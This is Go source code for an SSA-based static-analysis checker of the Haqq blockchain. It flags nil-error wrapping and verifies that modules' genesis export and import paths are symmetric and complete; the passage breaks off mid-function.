			continue
		}
		tr, fl := d.Succs[0], d.Succs[1]
		// nil holds on the false edge of !=, the true edge of ==; the edge must be the only way into its target,
		// or the other successor must not reach `at` at all (early return idiom)
		nilSucc, otherSucc := fl, tr
		if bin.Op == token.EQL {
			nilSucc, otherSucc = tr, fl
		}
		if dominates(nilSucc, at) && len(nilSucc.Preds) == 1 {
			return true
		}
		if dominates(nilSucc, at) && !blockReaches(otherSucc, at) {
			return true
		}
	}
	return false
}

func blockReaches(from, to *ssa.BasicBlock) bool {
	seen := map[*ssa.BasicBlock]bool{}
	work := []*ssa.BasicBlock{from}
	for len(work) > 0 {
		b := work[len(work)-1]
		work = work[:len(work)-1]
		if b == to {
			return true
		}
		if seen[b] {
			continue
		}
		seen[b] = true
		work = append(work, b.Succs...)
	}
	return false
}

func nilWrapRule(r *Run, rule string) {
	P := r.P
	sc := scopesOf(r)
	n, bad := 0, 0
	for _, fn := range sc.S.HaqqFuncs() {
		if isGeneratedFile(P.FileOf(fnPos(fn))) || isTestSupport(P, fn) {
			continue
		}
		eachInstr(fn, func(in ssa.Instruction) {
			c, ok := in.(*ssa.Call)
			if !ok {
				return
			}
			ci := callInfo(c)
			viaVar := false
			if u, ok := c.Call.Value.(*ssa.UnOp); ok && u.Op == token.MUL {
				if g, ok := u.X.(*ssa.Global); ok && (g.Name() == "Wrap" || g.Name() == "Wrapf") && g.Pkg != nil && pathHasSuffix(g.Pkg.Pkg.Path(), "types/errors") {
					viaVar = true
					ci.Name = g.Name()
				}
			}
			if !viaVar {
				if ci.Recv != "" || !(ci.Name == "Wrap" || ci.Name == "Wrapf" || ci.Name == "WithMessage" || ci.Name == "WithMessagef") {
					return
				}
				if !(pathHasSuffix(ci.PkgPath, "cosmossdk.io/errors") || pathHasSuffix(ci.PkgPath, "github.com/pkg/errors") || pathHasSuffix(ci.PkgPath, "types/errors")) {
					return
				}
			}
			if len(c.Call.Args) == 0 {
				return
			}
			n++
			e := c.Call.Args[0]
			if !provenNil(e, c.Block()) {
				return
			}
			// the wrapped (nil) result must reach a return to matter
			// (in a function with a defer the results are spilled: `*slot = Wrap(...); rundefers; return *slot`,
			// so the operands are taken through retOperands)
			returned := false
			eachInstr(fn, func(in2 ssa.Instruction) {
				if ret, ok := in2.(*ssa.Return); ok {
					for _, op := range retOperands(ret) {
						if op == ssa.Value(c) {
							returned = true
						}
					}
				}
			})
			if !returned {
				return
			}
			bad++
			r.Bad(rule, fmt.Sprintf("%s#wrap-nil-%s", fnID(fn), ci.Name), P.Pos(instrPos(in)),
				"this failure branch returns "+ci.Name+"(err, …) where err is provably nil here (the preceding `if err != nil` already returned): Wrap(nil) is nil, so the caller sees success although the operation failed", sc.S.Chain(fn)...)
		})
	}
	r.Floor(rule, "errors.Wrap call sites in consensus scope", n, 100)
	if bad == 0 {
		r.OK(rule, "scope-S", "", fmt.Sprintf("%d Wrap/Wrapf call sites, none wraps a provably nil error", n))
	}
}

// moduleAddrGlobal: the package variable x/erc20/types.ModuleAddress (as an SSA global), nil if absent.
func moduleAddrGlobal(P *Prog) ssa.Value {
	for path, sp := range P.SSAPkg {
		if pathHasSuffix(path, "x/erc20/types") {
			if g, ok := sp.Members["ModuleAddress"].(*ssa.Global); ok {
				return g
			}
		}
	}
	return nil
}

func constBool(c *ssa.Const) bool {
	if c == nil || c.Value == nil {
		return false
	}
	return c.Value.String() == "true"
}
