package main

import (
	"go/token"
	"fmt"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C19",
		Run: runC19,
		Explanation: "Static analysis of genesis symmetry for the Haqq modules (coinomics, evm, erc20, liquidvesting, ucdao, feemarket, epochs): (R1) the GenesisState fields assigned on the export path equal the fields read on the import path; (R2) every persistent store prefix of the module that consensus code writes is read by code reachable from ExportGenesis and written by code reachable from InitGenesis, except tabled derived indexes; " +
			"(R3) the app exports through the module manager; (R4) nothing on an export path stops an iteration early or paginates; (R5) import loops restore every part of every element unconditionally. Query-level equality of re-imported state is run-time behaviour and is not decided.",
		Assumptions: []string{"module.Manager.InitGenesis/ExportGenesisForModules call each module's functions", "JSON codec round-trips GenesisState"},
		Declined:    []string{"query-level equality of the re-imported state", "fidelity of nested values (e.g. epochs resets CurrentEpochStartHeight on import)"},
	})
}

type genModule struct {
	Name   string
	Init   string
	Export string
}

var genModules = []genModule{
	{"coinomics", "x/coinomics.InitGenesis", "x/coinomics.ExportGenesis"},
	{"evm", "x/evm.InitGenesis", "x/evm.ExportGenesis"},
	{"erc20", "x/erc20.InitGenesis", "x/erc20.ExportGenesis"},
	{"liquidvesting", "x/liquidvesting.InitGenesis", "x/liquidvesting.ExportGenesis"},
	{"ucdao", "(x/ucdao/keeper.BaseKeeper).InitGenesis", "(x/ucdao/keeper.BaseKeeper).ExportGenesis"},
	{"feemarket", "x/feemarket.InitGenesis", "x/feemarket.ExportGenesis"},
	{"epochs", "x/epochs.InitGenesis", "x/epochs.ExportGenesis"},
}

// store prefixes that are indexes derived from exported data (rebuilt on import by the setter of the
// primary record) or non-persistent; one line of reason each
var derivedPrefixes = map[string]string{
	"x/ucdao/types.DenomAddressPrefix":           "reverse index denom→address rebuilt by initBalances for every imported balance",
	"x/ucdao/types.HoldersPrefix":                "holder index rebuilt by InitGenesis for every imported non-zero balance",
	"x/erc20/types.KeyPrefixTokenPairByERC20":    "index erc20→pair id rebuilt by InitGenesis (SetERC20Map) for every imported pair",
	"x/erc20/types.KeyPrefixTokenPairByDenom":    "index denom→pair id rebuilt by InitGenesis (SetDenomMap) for every imported pair",
	"x/feemarket/types.KeyPrefixTransientBlockGasWanted": "transient store (per block)",
	"x/evm/types.KeyPrefixTransientBloom":        "transient store (per block)",
	"x/evm/types.KeyPrefixTransientTxIndex":      "transient store (per block)",
	"x/evm/types.KeyPrefixTransientLogSize":      "transient store (per block)",
	"x/evm/types.KeyPrefixTransientGasUsed":      "transient store (per block)",
}

// moduleReach: functions reachable from start through static calls (and closures) inside Haqq code.
func moduleReach(P *Prog, start *ssa.Function, depth int) map[*ssa.Function]bool {
	seen := map[*ssa.Function]bool{}
	var walk func(fn *ssa.Function, d int)
	walk = func(fn *ssa.Function, d int) {
		if fn == nil || seen[fn] || fn.Blocks == nil || !isHaqqPath(fnPkgPath(fn)) {
			return
		}
		seen[fn] = true
		if d == 0 {
			return
		}
		for _, a := range fn.AnonFuncs {
			walk(a, d)
		}
		eachCall(fn, func(ci CallInfo) {
			if ci.Static != nil {
				walk(ci.Static, d-1)
			}
		})
	}
	walk(start, depth)
	return seen
}

func runC19(r *Run) {
	defer c19DerivedIndexes(r)
	defer c19ExportShape(r)
	P := r.P
	r.Rule("R1", "TABLE.field-symmetry: per module, {GenesisState fields assigned in code reachable from ExportGenesis (composite literal or NewGenesisState parameters)} = {GenesisState fields read in code reachable from InitGenesis} = all fields of the struct")
	r.Rule("R2", "REACH.store-coverage: per module, every []byte key-prefix variable of x/<m>/types that a consensus-scope function uses together with a store Set/Delete is used by a function reachable from ExportGenesis and by a store-writing function reachable from InitGenesis, unless tabled as derived/transient")
	r.Rule("R3", "TABLE: ExportAppStateAndValidators calls mm.ExportGenesisForModules")
	sc := scopesOf(r)

	for _, gm := range genModules {
		tp := P.LookupType(haqqMod+"/x/"+gm.Name+"/types", "GenesisState")
		initF, ok1 := P.FnOK(gm.Init)
		expF, ok2 := P.FnOK(gm.Export)
		if tp == nil || !ok1 || !ok2 {
			r.Bad("R1", "anchor/"+gm.Name, "", fmt.Sprintf("GenesisState / InitGenesis / ExportGenesis of module %s not found (type:%v init:%v export:%v)", gm.Name, tp != nil, ok1, ok2))
			continue
		}
		fields := structFields(tp)
		typesPkg := "x/" + gm.Name + "/types"
		expReach := moduleReach(P, expF, 4)
		initReach := moduleReach(P, initF, 4)
		exported, consumed := map[string]bool{}, map[string]bool{}
		for fn := range expReach {
			for f := range storesByField(fn, "GenesisState", typesPkg) {
				exported[f] = true
			}
		}
		for fn := range initReach {
			eachInstr(fn, func(in ssa.Instruction) {
				v, _ := in.(ssa.Value)
				if v == nil {
					return
				}
				if fa, ok := v.(*ssa.FieldAddr); ok {
					if sn, f, ok := fieldOfAddr(fa); ok && sn == "GenesisState" && pathHasSuffix(namedPkgPath(fa.X.Type()), typesPkg) {
						// a read: the address is loaded (not only stored into)
						for _, ref := range *fa.Referrers() {
							if _, isStore := ref.(*ssa.Store); isStore && ref.(*ssa.Store).Addr == ssa.Value(fa) {
								continue
							}
							consumed[f] = true
						}
					}
				}
				if fv, ok := v.(*ssa.Field); ok {
					if sn, f, ok := fieldOfValue(fv); ok && sn == "GenesisState" && pathHasSuffix(namedPkgPath(fv.X.Type()), typesPkg) {
						consumed[f] = true
					}
				}
			})
		}
		for _, f := range fields {
			inst := fmt.Sprintf("x/%s#GenesisState.%s", gm.Name, f)
			switch {
			case exported[f] && consumed[f]:
				r.OK("R1", inst, P.Pos(tp.Pos()), "exported and imported")
			case exported[f] && !consumed[f]:
				r.Bad("R1", inst, P.Pos(fnPos(initF)), "field is written by ExportGenesis but InitGenesis never reads it: this part of the module state is dropped by an export/import cycle (a second export differs from the first)")
			case !exported[f] && consumed[f]:
				r.Bad("R1", inst, P.Pos(fnPos(expF)), "field is read by InitGenesis but ExportGenesis never sets it: the exported document loses this part of the state")
			default:
				r.Bad("R1", inst, P.Pos(tp.Pos()), "field is neither exported nor imported")
			}
		}
		r.Floor("R1", "GenesisState fields of "+gm.Name, len(fields), 1)
		// scalar parts of the genesis document are imported unconditionally: a call in InitGenesis (outside any loop)
		// whose argument derives from a GenesisState field must lie on every path to a normal return
		eachCall(initF, func(ci CallInfo) {
			if ci.Static == nil && !ci.Invoke {
				return
			}
			if innermostLoop(ci.Instr.Block()) != nil {
				return
			}
			fld := ""
			for _, a := range ci.Instr.Common().Args {
				if _, f, ok := directGenesisField(a, typesPkg); ok {
					fld = f
				}
			}
			if fld == "" || !(strings.HasPrefix(ci.Name, "Set") || strings.HasPrefix(ci.Name, "Init") || strings.HasPrefix(ci.Name, "init")) {
				return
			}
			call := ci.Instr
			w := PathQuery{Fn: initF, Block: func(in ssa.Instruction) bool { return in == ssa.Instruction(call) }, Target: func(in ssa.Instruction) bool {
				_, ok := in.(*ssa.Return)
				return ok && in.Block() != initF.Recover
			}}.Search()
			r.Check(w == nil, "R1", fmt.Sprintf("x/%s#import-unconditional/%s(%s)", gm.Name, ci.Name, fld), P.Pos(instrPos(call)), "on every path of InitGenesis", "InitGenesis can return without "+ci.Name+"(genesis."+fld+"): that part of the exported state is silently not restored for some documents", P.witness(w)...)
		})

		// ---- R2 ----
		tpkg := P.PkgBy[haqqMod+"/"+typesPkg]
		if tpkg == nil {
			continue
		}
		var prefixes []*ssa.Global
		for _, mem := range P.SSAPkg[tpkg.PkgPath].Members {
			g, ok := mem.(*ssa.Global)
			if !ok {
				continue
			}
			if sl, ok := g.Type().(*types.Pointer).Elem().Underlying().(*types.Slice); ok {
				if b, ok := sl.Elem().Underlying().(*types.Basic); ok && b.Kind() == types.Byte {
					prefixes = append(prefixes, g)
				}
			}
		}
		sort.Slice(prefixes, func(i, j int) bool { return prefixes[i].Name() < prefixes[j].Name() })
		usesGlobal := func(fn *ssa.Function, g *ssa.Global) bool {
			found := false
			for _, f := range withAnon(fn) {
				eachInstr(f, func(in ssa.Instruction) {
					for _, op := range in.Operands(nil) {
						if op != nil && *op == ssa.Value(g) {
							found = true
						}
					}
				})
			}
			return found
		}
		writesStore := func(fn *ssa.Function) bool {
			w := false
			for _, f := range withAnon(fn) {
				eachCall(f, func(ci CallInfo) {
					if (ci.Name == "Set" || ci.Name == "Delete") && (ci.Invoke || ci.Recv == "Store") {
						w = true
					}
				})
			}
			return w
		}
		// helper functions in types that build keys from a prefix (e.g. CreateAccountBalancesPrefix): users of the helper count as users of the prefix
		keyHelpers := map[*ssa.Global][]*ssa.Function{}
		for _, fn := range P.Funcs {
			if fnPkgPath(fn) != tpkg.PkgPath || fn.Parent() != nil {
				continue
			}
			for _, g := range prefixes {
				if usesGlobal(fn, g) {
					keyHelpers[g] = append(keyHelpers[g], fn)
				}
			}
		}
		// store-getter helpers of the keeper package (getAccountStore, getHoldersStore, …): a function that mentions
		// the prefix and returns a store; its callers count as users of the prefix
		for _, fn := range P.Funcs {
			if !strings.HasPrefix(fnPkgPath(fn), haqqMod+"/x/"+gm.Name) || fn.Parent() != nil || isTestSupport(P, fn) {
				continue
			}
			res := fn.Signature.Results()
			if res.Len() != 1 {
				continue
			}
			rn := namedName(res.At(0).Type())
			if rn != "Store" && rn != "KVStore" {
				continue
			}
			for _, g := range prefixes {
				uses := usesGlobal(fn, g)
				if !uses {
					for _, f := range withAnon(fn) {
						eachCall(f, func(ci CallInfo) {
							for _, h := range keyHelpers[g] {
								if ci.Static == h {
									uses = true
								}
							}
						})
					}
				}
				if uses {
					keyHelpers[g] = append(keyHelpers[g], fn)
				}
			}
		}
		usesPrefix := func(fn *ssa.Function, g *ssa.Global) bool {
			if usesGlobal(fn, g) {
				return true
			}
			u := false
			for _, f := range withAnon(fn) {
				eachCall(f, func(ci CallInfo) {
					for _, h := range keyHelpers[g] {
						if ci.Static == h {
							u = true
						}
					}
				})
			}
			return u
		}
		nP := 0
		// run-time reachability: consensus scope with this module's InitGenesis cut out (setters are shared by
		// InitGenesis and message handlers; what only InitGenesis reaches is not a run-time writer)
		rtRoots := map[*ssa.Function]string{}
		for f, why := range sc.Roots {
			if f != initF {
				rtRoots[f] = why
			}
		}
		runtime := sc.G.Reach(rtRoots, func(f *ssa.Function) bool { return f == initF })
		delete(runtime.Nodes, initF)
		for _, g := range prefixes {
			key := typesPkg + "." + g.Name()
			runtimeWriter := ""
			for _, fn := range sc.S.HaqqFuncs() {
				if isTestSupport(P, fn) || fn.Parent() != nil || strings.Contains(fnPkgPath(fn), "/migrations/") {
					continue // store migrations rewrite old layouts; the prefixes they mention are legacy keys
				}
				if !runtime.Has(fn) {
					continue
				}
				if usesPrefix(fn, g) && writesStore(fn) {
					runtimeWriter = fnID(fn)
					break
				}
			}
			if runtimeWriter == "" {
				continue
			}
			nP++
			inst := fmt.Sprintf("x/%s#prefix/%s", gm.Name, g.Name())
			if why, ok := derivedPrefixes[key]; ok {
				r.OK("R2", inst, "", "tabled: "+why)
				continue
			}
			exp, imp := false, false
			for fn := range expReach {
				if usesPrefix(fn, g) {
					exp = true
				}
			}
			for fn := range initReach {
				if usesPrefix(fn, g) && writesStore(fn) {
					imp = true
				}
			}
			switch {
			case exp && imp:
				r.OK("R2", inst, "", "written at run time by "+runtimeWriter+"; read on export, written on import")
			case !exp:
				r.Bad("R2", inst, P.Pos(fnPos(expF)), "store prefix "+g.Name()+" is written at run time (e.g. by "+runtimeWriter+") but nothing reachable from ExportGenesis reads it: that state is not exported")
			default:
				r.Bad("R2", inst, P.Pos(fnPos(initF)), "store prefix "+g.Name()+" is exported but nothing reachable from InitGenesis writes it: that state is not restored on import")
			}
		}
		r.Count("R2 runtime-written prefixes of "+gm.Name, nP)
	}

	// ---------- R4: the export walks everything ----------
	r.Rule("R4", "PATH/REACH.export-exhaustive: on the export path (functions reachable from a module's ExportGenesis) every callback handed to an Iterate*/Walk* method returns the constant false (never stops early), and nothing paginates (no query.Paginate / FilteredPaginate / *Paginated* helper, whose nil page request means 'first 100')")
	nCbE := 0
	for _, gm := range genModules {
		expF, ok := P.FnOK(gm.Export)
		if !ok {
			continue
		}
		for fn := range moduleReach(P, expF, 4) {
			eachCall(fn, func(ci CallInfo) {
				if ci.Name == "Paginate" || ci.Name == "FilteredPaginate" || ci.Name == "GenericFilteredPaginate" || strings.Contains(ci.Name, "Paginated") {
					r.Bad("R4", fmt.Sprintf("x/%s#paginates/%s", gm.Name, fnID(outermost(fn))), P.Pos(instrPos(ci.Instr)), "the export path of "+gm.Name+" goes through a paginated read ("+ci.Name+"): with no page request only the first page (100 entries) is exported")
					return
				}
				if !(strings.HasPrefix(ci.Name, "Iterate") || strings.HasPrefix(ci.Name, "Walk")) {
					return
				}
				for _, a := range ci.Instr.Common().Args {
					var cb *ssa.Function
					switch x := a.(type) {
					case *ssa.MakeClosure:
						cb, _ = x.Fn.(*ssa.Function)
					case *ssa.Function:
						cb = x
					}
					if cb == nil || cb.Signature.Results().Len() != 1 {
						continue
					}
					if b, ok := cb.Signature.Results().At(0).Type().Underlying().(*types.Basic); !ok || b.Kind() != types.Bool {
						continue
					}
					nCbE++
					bad := ""
					eachInstr(cb, func(in ssa.Instruction) {
						if ret, ok := in.(*ssa.Return); ok && !(cb.Recover != nil && ret.Block() == cb.Recover) {
							v := retOperands(ret)[0]
							if k, isK := v.(*ssa.Const); !isK || k.Value == nil || k.Value.String() != "false" {
								bad = P.Pos(instrPos(in))
							}
						}
					})
					// a collecting callback lists every element: the branches over which it returns without appending ask
					// only about the element's dynamic type (a comma-ok assertion) or its address length (R8)
					{
						isAppend := func(in ssa.Instruction) bool {
							if st, ok := in.(*ssa.Store); ok {
								// merging the element into an entry that is already listed (balances[idx].Coins = …) lists it too
								a := st.Addr
								for {
									if fa, ok := a.(*ssa.FieldAddr); ok {
										a = fa.X
										continue
									}
									break
								}
								if ia, isIdx := a.(*ssa.IndexAddr); isIdx {
									_, isSlice := ia.X.Type().Underlying().(*types.Slice) // not the array behind a variadic argument list
									return isSlice
								}
								return false
							}
							c, ok := in.(*ssa.Call)
							if !ok {
								return false
							}
							bi, ok := c.Call.Value.(*ssa.Builtin)
							return ok && bi.Name() == "append"
						}
						collects := false
						eachInstr(cb, func(in ssa.Instruction) {
							if c, ok := in.(*ssa.Call); ok {
								if bi, ok := c.Call.Value.(*ssa.Builtin); ok && bi.Name() == "append" {
									collects = true
								}
							}
						})
						if collects {
							skip := ""
							for _, b := range cb.Blocks {
								ifi, isIf := lastIf(b)
								if !isIf {
									continue
								}
								reachRetNoAppend := func(start *ssa.BasicBlock) bool {
									return (PathQuery{Fn: cb, StartBlock: start, Block: isAppend, Target: func(in ssa.Instruction) bool { _, ok := in.(*ssa.Return); return ok }}).Search() != nil
								}
								reachAppend := func(start *ssa.BasicBlock) bool {
									return (PathQuery{Fn: cb, StartBlock: start, Target: isAppend}).Search() != nil
								}
								s0, s1 := b.Succs[0], b.Succs[1]
								decides := (reachRetNoAppend(s0) && !reachAppend(s0) && reachAppend(s1)) || (reachRetNoAppend(s1) && !reachAppend(s1) && reachAppend(s0))
								if !decides {
									continue
								}
								sl := backSlice(ifi.Cond)
								admitted := sl.Any(func(v ssa.Value) bool {
									if ta, ok := v.(*ssa.TypeAssert); ok && ta.CommaOk {
										return true
									}
									if c, ok := v.(*ssa.Call); ok {
										if bi, ok := c.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
											return true
										}
									}
									return false
								})
								if !admitted && skip == "" {
									skip = P.Pos(ifi.Pos())
								}
							}
							r.Check(skip == "", "R4", fmt.Sprintf("x/%s#%s#lists-every-element", gm.Name, fnID(cb)), P.Pos(fnPos(cb)), "the collecting callback skips elements only by dynamic type / address length",
								"a collecting callback on the export path of "+gm.Name+" returns without appending under the condition at "+skip+": the elements it skips (e.g. token pairs whose conversion is switched off) are missing from the exported document and from the chain started from it — lookups answer differently, the entry can be registered a second time")
						}
					}
					r.Check(bad == "", "R4", fmt.Sprintf("x/%s#%s#never-stops", gm.Name, fnID(cb)), P.Pos(fnPos(cb)), "export callback always returns false", "an iteration on the export path of "+gm.Name+" can stop early (callback returns something other than false at "+bad+"): later entries are missing from the exported genesis")
				}
			})
		}
	}
	r.Floor("R4", "iterator callbacks on export paths", nCbE, 1)
	// collecting loops on the export path run to completion: a loop that appends to a list can be left only through
	// its own termination test (iterator.Valid() / index bound) or by a panic — a break on a missing id or a full page
	// truncates the export
	nLoopsE := 0
	for _, gm := range genModules {
		expF, ok := P.FnOK(gm.Export)
		if !ok {
			continue
		}
		for fn := range moduleReach(P, expF, 4) {
			for _, hd := range fn.Blocks {
				if !isLoopHeader(hd) {
					continue
				}
				body := loopBody(hd)
				collects := false
				for b := range body {
					for _, in := range b.Instrs {
						if c, ok := in.(*ssa.Call); ok {
							if bi, ok := c.Call.Value.(*ssa.Builtin); ok && bi.Name() == "append" {
								collects = true
							}
						}
					}
				}
				if !collects {
					continue
				}
				nLoopsE++
				early := ""
				for b := range body {
					if b == hd {
						continue
					}
					for _, sc := range b.Succs {
						if body[sc] {
							continue
						}
						// leaving the loop from inside the body: allowed only towards a panic / failure
						leadsToReturn := false
						if w := (PathQuery{Fn: fn, StartBlock: sc, Target: func(in ssa.Instruction) bool { _, ok := in.(*ssa.Return); return ok }}).Search(); w != nil {
							leadsToReturn = true
						}
						if leadsToReturn {
							early = P.Pos(instrPos(b.Instrs[len(b.Instrs)-1]))
						}
					}
				}
				r.Check(early == "", "R4", fmt.Sprintf("x/%s#%s/loop@%s#runs-to-completion", gm.Name, fnID(fn), hd.Comment), P.Pos(instrPos(hd.Instrs[0])), "the collecting loop is left only through its termination test",
					"a loop that collects exported entries can be left from inside its body (break / early return at "+early+"): entries after that point are missing from the exported genesis although they are in the store")
			}
		}
	}
	r.Floor("R4", "collecting loops on export paths", nLoopsE, 1)

	// ---------- R5: the import writes every element completely ----------
	r.Rule("R5", "PATH.import-per-element: in a loop of a module's InitGenesis over a GenesisState field, each store-writing call of the loop body (a Set*/set*/Init* keeper method) is performed on every iteration — from the start of the body the next iteration is reachable only through it (panics/failure exits excepted); an element's record, its indexes, its code and its storage are restored unconditionally")
	nImpLoops := 0
	for _, gm := range genModules {
		initF, ok := P.FnOK(gm.Init)
		if !ok {
			continue
		}
		typesPkg := "x/" + gm.Name + "/types"
		for fn := range moduleReach(P, initF, 2) {
			if fn != initF && !strings.HasPrefix(fn.Name(), "init") {
				continue
			}
			for _, hd := range fn.Blocks {
				if !isLoopHeader(hd) {
					continue
				}
				body := loopBody(hd)
				// only loops ranging over genesis data
				overGenesis := false
				if ifi, ok := lastIf(hd); ok {
					if _, _, ok := directGenesisField(ifi.Cond, typesPkg); ok {
						overGenesis = true
					}
					if fn != initF {
						overGenesis = overGenesis || backSlice(ifi.Cond).Any(func(v ssa.Value) bool { _, isP := v.(*ssa.Parameter); return isP })
					}
				}
				if !overGenesis {
					continue
				}
				var writers []ssa.CallInstruction
				for b := range body {
					if innermostLoop(b) != hd {
						continue // nested loops (per-slot storage) are judged as their own loop
					}
					for _, in := range b.Instrs {
						c, ok := in.(ssa.CallInstruction)
						if !ok {
							continue
						}
						ci := callInfo(c)
						if (ci.Static != nil || ci.Invoke) && (strings.HasPrefix(ci.Name, "Set") || strings.HasPrefix(ci.Name, "set") || strings.HasPrefix(ci.Name, "Init") || strings.HasPrefix(ci.Name, "init") || strings.HasPrefix(ci.Name, "add")) && ci.PkgPath != "" && (isHaqqPath(ci.PkgPath) || ci.Invoke) {
							writers = append(writers, c)
						}
					}
				}
				// directly nested loops that write (per-slot storage, per-coin balances) must be entered on every iteration too
				var innerHeads []*ssa.BasicBlock
				for b := range body {
					if b != hd && isLoopHeader(b) && innermostLoopExcluding(b) == hd {
						has := false
						for ib := range loopBody(b) {
							for _, in := range ib.Instrs {
								if c, ok := in.(ssa.CallInstruction); ok {
									n := callInfo(c).Name
									if strings.HasPrefix(n, "Set") || strings.HasPrefix(n, "set") || strings.HasPrefix(n, "add") {
										has = true
									}
								}
							}
						}
						if has {
							innerHeads = append(innerHeads, b)
						}
					}
				}
				if len(writers) == 0 && len(innerHeads) == 0 {
					continue
				}
				nImpLoops++
				for i, ih := range innerHeads {
					var starts0 []*ssa.BasicBlock
					for _, sc2 := range hd.Succs {
						if body[sc2] && sc2 != hd {
							starts0 = append(starts0, sc2)
						}
					}
					okI := true
					var wit []string
					for _, sb := range starts0 {
						w := PathQuery{Fn: fn, StartBlock: sb, Block: func(in ssa.Instruction) bool { return in == ih.Instrs[0] }, Target: func(in ssa.Instruction) bool { return in == hd.Instrs[0] }}.Search()
						if w != nil {
							okI = false
							wit = P.witness(w)
						}
					}
					r.Check(okI, "R5", fmt.Sprintf("x/%s#%s/loop@%s/inner-loop-%d", gm.Name, fnID(fn), hd.Comment, i+1), P.Pos(instrPos(ih.Instrs[0])), "the nested writing loop is entered on every iteration",
						"while importing "+gm.Name+" genesis an element's nested data (e.g. an account's storage slots) can be skipped as a whole: it was exported but is not restored", wit...)
				}
				var starts []*ssa.BasicBlock
				for _, sc2 := range hd.Succs {
					if body[sc2] && sc2 != hd {
						starts = append(starts, sc2)
					}
				}
				for i, wc := range writers {
					ci := callInfo(wc)
					isW := func(in ssa.Instruction) bool { return in == ssa.Instruction(wc) }
					okW := true
					var wit []string
					for _, sb := range starts {
						w := PathQuery{Fn: fn, StartBlock: sb, Block: isW, Target: func(in ssa.Instruction) bool { return in == hd.Instrs[0] }}.Search()
						if w != nil {
							okW = false
							wit = P.witness(w)
						}
					}
					r.Check(okW, "R5", fmt.Sprintf("x/%s#%s/loop@%s/%s-%d", gm.Name, fnID(fn), hd.Comment, ci.Name, i+1), P.Pos(instrPos(wc)), ci.Name+" on every iteration",
						"while importing "+gm.Name+" genesis an element can be passed over without "+ci.Name+"(…): part of that element's state (an index entry, its code, its storage, its enabled flag …) is not restored although the export contained it", wit...)
				}
			}
		}
	}
	r.Floor("R5", "import loops with store writers", nImpLoops, 4)
	// R6: the imported document is stored as it is
	r.Rule("R6", "FLOW.import-unmodified: InitGenesis (and the ExportGenesis of the same module) never overwrites a field of the GenesisState it was handed or of an element copied out of it (a Store into a field of the genesis parameter, or of a local whose value derives from it) — what is written to the stores is the document's own data, so export→import→export is the identity on the document; normalising, trimming or defaulting an element on import changes the re-exported state")
	nInitFns := 0
	for _, gm := range genModules {
		for _, id := range []string{gm.Init, gm.Export} {
			fn0, ok := P.FnOK(id)
			if !ok {
				continue
			}
			isInit := id == gm.Init
			if !isInit {
				continue // exports build a fresh document; overwriting its fields is how it is built
			}
			nInitFns++
			// the genesis parameter
			var gp *ssa.Parameter
			for _, p := range fn0.Params {
				if namedName(p.Type()) == "GenesisState" || (namedName(deref(p.Type())) == "GenesisState") {
					gp = p
				}
			}
			if gp == nil {
				r.Bad("R6", "x/"+gm.Name+"#genesis-parameter", P.Pos(fnPos(fn0)), "InitGenesis has no GenesisState parameter")
				continue
			}
			bad, tabled := 0, 0
			perField := map[string]int{}
			for _, fn := range withAnon(fn0) {
				eachInstr(fn, func(in ssa.Instruction) {
					st, ok := in.(*ssa.Store)
					if !ok {
						return
					}
					// only partial overwrites: the address is a field / element of something
					switch st.Addr.(type) {
					case *ssa.FieldAddr, *ssa.IndexAddr:
					default:
						return
					}
					root := addrRoot(st.Addr)
					derives := false
					switch x := root.(type) {
					case *ssa.Parameter:
						derives = x == gp
					case *ssa.Alloc:
						// a local copy of the document or of one of its elements: some whole-value write into it is a pure
						// projection (load / field / element / range value) of the genesis parameter — not a computed value
						for _, wv := range allocWriters(x) {
							if wv != st.Val && isProjectionOf(wv, gp, 0) {
								derives = true
							}
						}
					case *ssa.UnOp:
						derives = isProjectionOf(x, gp, 0)
					}
					if !derives {
						return
					}
					sn, f, _ := fieldOfAddr(st.Addr)
					if why, ok := importRewriteExceptions["x/"+gm.Name+"#"+sn+"."+f]; ok {
						r.OK("R6", fmt.Sprintf("x/%s#%s/overwrites-%s.%s", gm.Name, fnID(fn), sn, f), P.Pos(instrPos(in)), "tabled: "+why)
						tabled++
						return
					}
					bad++
					perField[sn+"."+f]++
					sfx := ""
					if perField[sn+"."+f] > 1 {
						sfx = fmt.Sprintf("-%d", perField[sn+"."+f])
					}
					r.Bad("R6", fmt.Sprintf("x/%s#%s/overwrites-%s.%s%s", gm.Name, fnID(fn), sn, f, sfx), P.Pos(instrPos(in)), "InitGenesis overwrites "+sn+"."+f+" of the imported document (or of an element copied out of it) before storing it: the stored state is not what was exported, so a second export differs and queries answer differently on the re-imported chain")
				})
			}
			_ = tabled
			if bad == 0 {
				r.OK("R6", "x/"+gm.Name+"#import-unmodified", P.Pos(fnPos(fn0)), "no field of the imported document is overwritten")
			}
		}
	}
	r.Floor("R6", "InitGenesis functions examined", nInitFns, 7)

	// evm export completeness: every exported account carries its code and storage
	if ex, ok := P.FnOK("x/evm.ExportGenesis"); ok {
		n := 0
		for _, f := range withAnon(ex) {
			eachInstr(f, func(in ssa.Instruction) {
				st, ok := in.(*ssa.Store)
				if !ok {
					return
				}
				sn, fld, ok := fieldOfAddr(st.Addr)
				if !ok || sn != "GenesisAccount" {
					return
				}
				want := map[string]string{"Code": "GetCode", "Storage": "GetAccountStorage", "Address": "EthAddress"}[fld]
				if want == "" {
					return
				}
				n++
				v := stripValue(st.Val)
				direct := false
				if c, ok := v.(*ssa.Call); ok {
					direct = callInfo(c).Name == want || backSlice(c).HasCall(func(g CallInfo) bool { return g.Name == want })
				}
				// unconditional: the store must not be guarded (its block dominates the append / closure return)
				uncond := dominates(st.Block(), lastBlockOf(f)) || len(f.Blocks) == 1 || storeReachesAllReturnsAfterAssert(f, st)
				r.Check(direct && uncond, "R1", fmt.Sprintf("x/evm.ExportGenesis#account-%s", fld), P.Pos(instrPos(in)), "GenesisAccount."+fld+" ← "+want+"(…) for every exported account",
					"an exported EVM account's "+fld+" is not unconditionally taken from "+want+": accounts in unusual states (e.g. storage without code) would lose state in the export")
			})
		}
		r.Floor("R1", "GenesisAccount field stores in evm ExportGenesis", n, 3)
	}

	// ---------- R3 ----------
	if ex, ok := P.FnOK("(*app.Haqq).ExportAppStateAndValidators"); ok {
		okE := false
		eachCall(ex, func(ci CallInfo) {
			if ci.Name == "ExportGenesisForModules" || ci.Name == "ExportGenesis" {
				okE = true
			}
		})
